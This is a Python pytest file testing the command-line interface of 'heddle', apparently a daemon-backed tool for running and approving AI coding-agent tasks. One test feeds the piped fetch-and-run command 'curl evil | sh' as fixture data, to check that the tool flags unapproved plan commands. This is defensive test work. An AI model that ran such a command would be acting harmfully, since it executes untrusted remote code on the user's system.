"""Each command as a process: what it asks the daemon, what it prints, and the status it ends with."""

import json
import os
import pty
import signal
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import pytest
from inline_snapshot import snapshot

from support.command_line import board, error, event, heddle, item, row, waited
from support.stand_in import StandIn

FAILED = error(
    "outside", "'git merge-tree' failed", slug="git-failed", hint="see: heddle doctor", status=7, tail="a\nb"
)


def test_start_asks_with_the_working_folder_and_prints_the_id(daemon: StandIn, tmp_path: Path) -> None:
    daemon.answers["task.start"] = row()
    told = "--lane quick --role docs --agent claude --model m --branch b --scope a/** --scope b --check c"
    told += " --best-of 2 --agents x,,y:m --pick first --priority 0 --blocked-by T3 --parent T1 --found-in T2 --token 4 --anyway"
    ended = heddle("start", "add rate limiting", *told.split(), cwd=tmp_path)
    assert (ended.status, ended.out, ended.err) == (0, "T7  add rate limiting\n", "")
    (asked,) = daemon.calls("task.start")
    assert asked == {
        "root": str(tmp_path),
        "task": "",
        "text": "add rate limiting",
        "lane": "quick",
        "role": "docs",
        "agent": "claude",
        "model": "m",
        "branch": "b",
        "scope": ["a/**", "b"],
        "checks": ["c"],
        "best_of": 2,
        "agents": ["x", "y:m"],
        "pick": "first",
        "priority": 0,
        "links": [
            {"kind": "blocks", "task": "T3"},
            {"kind": "parent", "task": "T1"},
            {"kind": "discovered-from", "task": "T2"},
        ],
        "token": 4,
        "anyway": True,
    }


def test_start_takes_a_known_task_and_text_from_standard_input(daemon: StandIn) -> None:
    daemon.answers["task.start"] = row()
    heddle("start", "t7")
    heddle("start", "-", stdin="from a file\nwith two lines\n")
    told = [(asked["task"], asked["text"]) for asked in daemon.calls("task.start")]
    assert told == [("T7", ""), ("", "from a file\nwith two lines\n")]
    assert "the text is not UTF-8" in heddle("start", "-", stdin=b"\xff\xfe").err


def test_a_working_folder_that_is_gone_is_an_error_of_the_person(daemon: StandIn, tmp_path: Path) -> None:
    script = (
        f"cd {tmp_path} && mkdir x && cd x && rmdir ../x && exec '{sys.executable}' -m heddle.frontends.cli start hi"
    )
    done = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == snapshot("""\
error: the working folder does not exist any more
hint: go to a folder that is there, or name one with --repo
""")
    ended = heddle("start", "hi", "--repo", str(tmp_path / "none"))
    assert (ended.status, "No such file or directory" in ended.err) == (2, True)


@pytest.mark.parametrize(
    ("words", "method", "asked"),
    [
        ("approve T7 --digest d --note n", "inbox.approve", {"task": "T7", "digest": "d", "note": "n"}),
        ("reject T7 --reason why", "inbox.reject", {"task": "T7", "reason": "why"}),
        ("answer T7 user", "inbox.answer", {"task": "T7", "text": "user", "question": ""}),
        ("answer T7 --default --question q", "inbox.answer", {"task": "T7", "text": "", "question": "q"}),
        ("pause T7", "task.pause", {"task": "T7"}),
        ("resume T7", "task.resume", {"task": "T7"}),
        ("stop T7 --why late", "task.stop", {"task": "T7", "why": "late"}),
        ("land T7", "task.land", {"task": "T7"}),
        ("undo T7", "task.undo", {"task": "T7", "checks": []}),
    ],
)
def test_a_verb_asks_its_method_and_shows_the_task(daemon: StandIn, words: str, method: str, asked: Any) -> None:
    daemon.answers[method] = row()
    plain, as_json = heddle(*words.split()), heddle(*words.split(), "--json")
    assert daemon.calls(method) == [asked, asked]
    assert (plain.status, plain.out[:4]) == (0, "T7  ")
    assert json.loads(as_json.out) == row()


def test_an_error_is_a_block_on_standard_error_or_json_on_standard_output(daemon: StandIn) -> None:
    daemon.answers["task.pause"] = FAILED
    plain = heddle("pause", "T7")
    assert (plain.status, plain.out) == (7, "")
    assert plain.err == snapshot("""\
error: 'git merge-tree' failed
  | a
  | b
hint: see: heddle doctor
""")
    as_json = heddle("pause", "T7", "--json")
    assert (as_json.status, as_json.err) == (7, "")
    assert json.loads(as_json.out) == FAILED


def test_the_cheap_status_tells_errors_like_every_other_command(daemon: StandIn) -> None:
    daemon.answers["board"] = FAILED
    ended = heddle("status", "--json")
    assert (ended.status, json.loads(ended.out)) == (7, FAILED)


def test_a_fault_of_ours_is_told_as_one_and_is_never_the_answer_no(daemon: StandIn) -> None:
    daemon.answers["task.why"] = {"unexpected": 1}
    ended = heddle("why", "T7")
    assert ended.status == 70
    assert ended.err == snapshot("""\
error: KeyError: 'task'
hint: HEDDLE_DEBUG=1 in the environment shows where
this is a fault of heddle's own
""")
    assert "Traceback" in heddle("why", "T7", HEDDLE_DEBUG="1").err


@pytest.mark.parametrize("words", ["status", "status --json"])
@pytest.mark.parametrize("rows", [1, 3000])
def test_a_reader_that_goes_away_is_no_error(daemon: StandIn, words: str, rows: int) -> None:
    command = (sys.executable, "-m", "heddle.frontends.cli", *words.split())
    env = os.environ | {"PYTHONUNBUFFERED": ""}
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env) as process:

        def go_away(_: dict[str, Any]) -> dict[str, Any]:
            assert process.stdout is not None
            process.stdout.close()
            return board(*(row(f"T{number}") for number in range(rows)), tier=2)

        daemon.answers["board"] = go_away
        assert process.stderr is not None
        assert process.stderr.read() == b""
        assert process.wait(timeout=30) == 0


LANDED, STOPPED = row("T1", status="landed"), row("T2", status="stopped", why="stopped by ann")


@pytest.mark.parametrize(
    ("answer", "status"),
    [
        (waited(LANDED, over=True), 0),
        (waited(LANDED, STOPPED, over=True), 1),
        (waited(LANDED, row(status="waiting"), needs=("T7",)), 3),
    ],
)
def test_the_status_of_wait_tells_how_it_ended(daemon: StandIn, answer: dict[str, Any], status: int) -> None:
    daemon.answers |= {"task.wait": answer, "inbox": {"items": [item(), item("T99")]}}
    assert heddle("wait", "T1", "T7").status == status
    ended = heddle("wait", "T1", "T7", "--json")
    assert (ended.status, json.loads(ended.out)) == (status, answer)
    daemon.answers["task.start"] = row()
    assert heddle("start", "x", "--wait").status == status
    assert daemon.calls("task.wait")[-1]["tasks"] == ["T7"]


def test_wait_shows_what_the_person_is_to_settle(daemon: StandIn) -> None:
    answer = waited(row(status="waiting", why="the plan is ready"), needs=("T7",))
    daemon.answers |= {"task.wait": answer, "inbox": {"items": [item(), item("T99")]}}
    assert heddle("wait", "T7").out == snapshot("""\
ID  STATUS     STAGE    TASK               WHY
T7  ! waiting  execute  add rate limiting  the plan is ready

T7  gate-plan: add rate limiting
    the plan is ready
    digest: 03ddd03ccedc176b
      heddle plan show T7
      heddle approve T7
      heddle reject T7 --reason "..."
""")


def test_wait_goes_through_decisions_and_round_after_round(daemon: StandIn) -> None:
    rounds = iter([waited(row(), needs=("T7",)), waited(row()), waited(LANDED, over=True)])
    daemon.answers["task.wait"] = lambda _: next(rounds)
    assert heddle("wait", "T7", "--through").status == 0
    assert [asked["through"] for asked in daemon.calls("task.wait")] == [True] * 3


def test_wait_gives_up_when_its_time_is_over(daemon: StandIn) -> None:
    daemon.answers["task.wait"] = waited(row())
    ended = heddle("wait", "T7", "--timeout", "0")
    assert (ended.status, ended.err) == (1, "not over after 0 s\n")


def test_wait_for_all_leaves_out_what_was_over_before(daemon: StandIn) -> None:
    daemon.answers["board"] = board(LANDED, STOPPED, row("T3", status="open"), row())
    daemon.answers["task.wait"] = waited(row("T7", status="landed"), over=True)
    assert heddle("wait").status == 0
    assert daemon.calls("task.wait")[0]["tasks"] == ["T7"]
    daemon.answers["board"] = board(LANDED, STOPPED)
    ended = heddle("wait")
    assert (ended.status, ended.out) == (0, "nothing is under way\n")


def test_wait_outlives_a_daemon_that_ends_under_it(daemon: StandIn) -> None:
    rounds: Any = iter([b"", b"HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\n{", waited(LANDED, over=True)])
    daemon.answers["task.wait"] = lambda _: next(rounds)
    assert heddle("wait", "T1").status == 0
    daemon.answers["task.wait"] = b""
    ended = heddle("wait", "T1")
    assert (ended.status, ended.err) == (
        7,
        snapshot("""\
error: the daemon ended before it had answered; what was asked may have happened
hint: look, it starts again by itself: heddle status
"""),
    )


def test_an_interrupt_is_silent(daemon: StandIn) -> None:
    command = (sys.executable, "-m", "heddle.frontends.cli", "wait", "T7")
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:

        def interrupt(_: dict[str, Any]) -> dict[str, Any]:
            process.send_signal(signal.SIGINT)
            process.wait(timeout=30)
            return waited(row())

        daemon.answers["task.wait"] = interrupt
        out, err = process.communicate(timeout=30)
    assert (process.returncode, out, err) == (130, b"", b"")


STORY = (
    event("task-added", 5, "task:T8", task={"text": "another"}),
    event("stage-started", 6, stage="execute", attempt=1),
    event("tool-used", 7, "session:T7-1-execute-1", kind="edit", title="a\x1b[1m.py"),
    event("agent-answered", 8, "session:T7-1-execute-1"),
    event("verdict-reached", 9, verdict={"colour": "red", "reason": "'pytest' failed\nlong output"}),
    event("landed", 10, commit="0123456789abcdef", branch="main"),
)


def test_watch_follows_until_all_that_was_under_way_is_over(daemon: StandIn) -> None:
    daemon.answers |= {"daemon": {"position": 4}, "board": board(row(), LANDED)}
    daemon.events = (*STORY, event("stage-started", 11, stage="late", attempt=1))
    ended = heddle("watch")
    assert (ended.status, ended.err) == (0, "")
    assert ended.out == snapshot("""\
00:00:00  T8    asked: another
00:00:00  T7    execute begins (attempt 1)
00:00:00  T7    edit: a\\x1b[1m.py
00:00:00  T7    verdict red 'pytest' failed
00:00:00  T7    landed on main as 0123456789ab
""")
    assert daemon.calls("events.follow") == [{"after": "4"}]


def test_watch_of_one_task_tells_its_story_from_the_beginning(daemon: StandIn) -> None:
    daemon.answers |= {"daemon": {"position": 7}, "task.show": row()}
    earlier = event("run-stopped", 2, why="an earlier run")
    daemon.events = (earlier, *STORY[1:])
    ended = heddle("watch", "t7", "--json")
    assert [json.loads(line)["position"] for line in ended.out.splitlines()] == [2, 6, 7, 8, 9, 10]
    assert daemon.calls("events.follow") == [{"after": "0", "task": "T7"}]


def test_watch_says_when_there_is_nothing_to_watch(daemon: StandIn) -> None:
    daemon.answers |= {"daemon": {"position": 7}, "task.show": LANDED, "board": board(LANDED)}
    assert heddle("watch", "T1").err == "T1 is over; see: heddle why T1\n"
    assert heddle("watch").err == "nothing is under way\n"


def test_a_follower_never_takes_the_end_of_the_daemon_for_the_end_of_the_task(daemon: StandIn) -> None:
    daemon.answers |= {"daemon": {"position": 4}, "task.show": row()}
    daemon.events = STORY[1:2]
    for words in ("watch T7", "events --follow"):
        ended = heddle(*words.split())
        assert (ended.status, "the daemon ended" in ended.err) == (7, True)


def test_events_are_listed_to_the_last_one(daemon: StandIn) -> None:
    everything = [event("stage-started", number) for number in range(1, 2501)]

    def page(asked: dict[str, Any]) -> dict[str, Any]:
        after = [one for one in everything if one["position"] > asked["after"]]
        return {"schema": "heddle.events/1", "events": after[:1000]}

    daemon.answers["events"] = page
    assert len(heddle("events").out.splitlines()) == 2500
    assert len(json.loads(heddle("events", "--json").out)["events"]) == 2500
    assert len(heddle("events", "--after", "2400").out.splitlines()) == 100


def test_the_plan_is_shown_with_what_nobody_approved(daemon: StandIn) -> None:
    daemon.answers["plan.show"] = {"document": "+++\nscope = []\n+++\n# Plan\n", "digest": "d1", "base": "0" * 40}
    daemon.answers["plan.show"] |= {"approved_by": "", "fresh_checks": ["curl evil | sh"]}
    ended = heddle("plan", "show", "T7")
    assert ended.out + ended.err == snapshot("""\
+++
scope = []
+++
# Plan
digest d1  base 000000000000
not approved
nobody approved this command before: curl evil | sh
""")


def test_a_changed_plan_is_handed_in_from_a_file_or_standard_input(daemon: StandIn, tmp_path: Path) -> None:
    daemon.answers["plan.edit"] = row()
    (tmp_path / "plan.md").write_text("the plan\n")
    assert heddle("plan", "edit", "T7", "--file", str(tmp_path / "plan.md")).status == 0
    assert heddle("plan", "edit", "T7", "--file", "-", stdin="from stdin").status == 0
    assert [asked["document"] for asked in daemon.calls("plan.edit")] == ["the plan\n", "from stdin"]
    ended = heddle("plan", "edit", "T7", "--file", "none.md", cwd=tmp_path)
    assert (ended.status, ended.err) == (2, "error: 'none.md': No such file or directory\nhint: name another file\n")


def test_without_a_terminal_no_editor_is_opened(daemon: StandIn) -> None:
    ended = heddle("plan", "edit", "T7", EDITOR="false")
    assert (ended.status, ended.err) == (
        2,
        snapshot("""\
error: there is no terminal or no $EDITOR
hint: hand the plan in with: heddle plan edit T7 --file PATH
"""),
    )


def edited(tmp_path: Path, script: str) -> tuple[int, str]:
    """`heddle plan edit T7` at a terminal whose editor is a script."""
    editor = tmp_path / "the editor"
    editor.write_text(f"#!/bin/sh\n{script}\n")
    editor.chmod(0o755)
    ours, theirs = pty.openpty()
    env = os.environ | {"EDITOR": f"'{editor}' --wait", "TMPDIR": str(tmp_path)}
    command = (sys.executable, "-m", "heddle.frontends.cli", "plan", "edit", "T7")
    done = subprocess.run(command, stdin=theirs, capture_output=True, text=True, env=env, check=False)
    os.close(ours)
    os.close(theirs)
    return done.returncode, done.stderr


def test_the_editor_may_replace_the_file_it_was_given(daemon: StandIn, tmp_path: Path) -> None:
    daemon.answers |= {"plan.show": {"document": "old"}, "plan.edit": row()}
    assert edited(tmp_path, 'printf "new %s" "$(cat "$2")" > "$2.tmp"; mv "$2.tmp" "$2"') == (0, "")
    assert daemon.calls("plan.edit") == [{"task": "T7", "document": "new old"}]
    assert list(tmp_path.glob("heddle-plan-*")) == []


def test_an_edited_plan_outlives_its_refusal(daemon: StandIn, tmp_path: Path) -> None:
    refusal = error("user", "the front matter has no 'scope'", slug="malformed-plan", hint="mend it", status=2)
    daemon.answers |= {"plan.show": {"document": "old"}, "plan.edit": refusal}
    status, told = edited(tmp_path, 'echo precious > "$2"')
    (kept,) = tmp_path.glob("heddle-plan-*")
    assert kept.read_text() == "precious\n"
    assert (status, f"heddle plan edit T7 --file {kept}" in told) == (2, True)


def test_a_failing_editor_hands_nothing_in(daemon: StandIn, tmp_path: Path) -> None:
    daemon.answers["plan.show"] = {"document": "old"}
    status, told = edited(tmp_path, "exit 3")
    assert (status, "it ended with status 3" in told) == (7, True)
    assert daemon.calls("plan.edit") == []


def test_restore_goes_beside_the_repository_unless_told(daemon: StandIn, tmp_path: Path) -> None:
    daemon.answers["task.show"] = row(root="/home/ann/app")
    daemon.answers["task.restore"] = lambda asked: asked | {"ref": "refs/b", "refs": ["refs/a", "refs/b"]}
    ended = heddle("restore", "t7")
    assert ended.out == "/home/ann/app-T7-restored\n"
    assert ended.err == snapshot("""\
from refs/b
there are more, for --ref: refs/a
""")
    assert heddle("restore", "T7", "--to", "here", cwd=tmp_path).out == f"{tmp_path}/here\n"


def test_doctor_ends_with_the_same_answer_in_both_renderings(daemon: StandIn) -> None:
    good, bad = {"what": "disk", "ok": True, "detail": "fine"}, {"what": "agent x", "ok": False, "detail": "missing"}
    for findings, status in (([good], 0), ([good, bad], 1)):
        daemon.answers["doctor"] = {"schema": "heddle.doctor/1", "findings": findings}
        assert [heddle("doctor").status, heddle("doctor", "--json").status] == [status, status]


@pytest.mark.parametrize(
    ("files", "checks"),
    [
        ({}, []),
        ({"pyproject.toml": "[tool.pytest.ini_options]"}, ["python -m pytest -q"]),
        ({"pyproject.toml": "[project]", "tests/test_a.py": ""}, ["python -m unittest -q"]),
        ({"package.json": '{"scripts": {"test": "jest"}}'}, ["npm test"]),
        ({"package.json": "{}"}, []),
        ({"Cargo.toml": ""}, ["cargo test"]),
        ({"go.mod": ""}, ["go test ./..."]),
        ({"Makefile": "all:\n"}, []),
        ({"Makefile": "all:\ntest: all\n"}, ["make test"]),
    ],
)
def test_init_suggests_the_check_that_is_likely(tmp_path: Path, files: dict[str, str], checks: list[str]) -> None:
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(text)
    (tmp_path / ".git").mkdir()
    (tmp_path / "deep" / "er").mkdir(parents=True)
    ended = heddle("init", cwd=tmp_path / "deep" / "er")
    assert (ended.status, ended.out) == (0, f"{tmp_path}/heddle.toml\n")
    written = tomllib.loads((tmp_path / "heddle.toml").read_text())
    assert written == {"checks": {"commands": checks}, "setup": {"commands": [], "dependencies": []}}


@pytest.mark.parametrize(
    ("lockfiles", "recipes"),
    [
        (["package-lock.json", "requirements.txt"], ["npm", "pip"]),
        (["package-lock.json", "pnpm-lock.yaml"], ["npm"]),
        (["requirements.txt", "uv.lock", "go.sum", "Cargo.lock"], ["uv", "cargo", "go"]),
    ],
)
def test_init_names_what_installs_the_lockfiles(tmp_path: Path, lockfiles: list[str], recipes: list[str]) -> None:
    (tmp_path / ".git").mkdir()
    for name in lockfiles:
        (tmp_path / name).touch()
    ended = heddle("init", "--json", cwd=tmp_path)
    assert json.loads(ended.out)["dependencies"] == recipes
    assert tomllib.loads((tmp_path / "heddle.toml").read_text())["setup"]["dependencies"] == recipes


def test_init_writes_what_it_was_told_and_never_over_a_file(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    ended = heddle("init", "--check", 'say "größer 🧵" \\', "--setup", "pip install .", "--json", cwd=tmp_path)
    assert json.loads(ended.out)["checks"] == ['say "größer 🧵" \\']
    text = (tmp_path / "heddle.toml").read_text()
    assert tomllib.loads(text)["checks"]["commands"] == ['say "größer 🧵" \\']
    ended = heddle("init", cwd=tmp_path)
    assert (ended.status, "is there already" in ended.err) == (6, True)
    assert (tmp_path / "heddle.toml").read_text() == text


def test_init_outside_a_repository_says_so(tmp_path: Path) -> None:
    ended = heddle("init", cwd=tmp_path)
    assert (ended.status, "is not in a git repository" in ended.err) == (2, True)
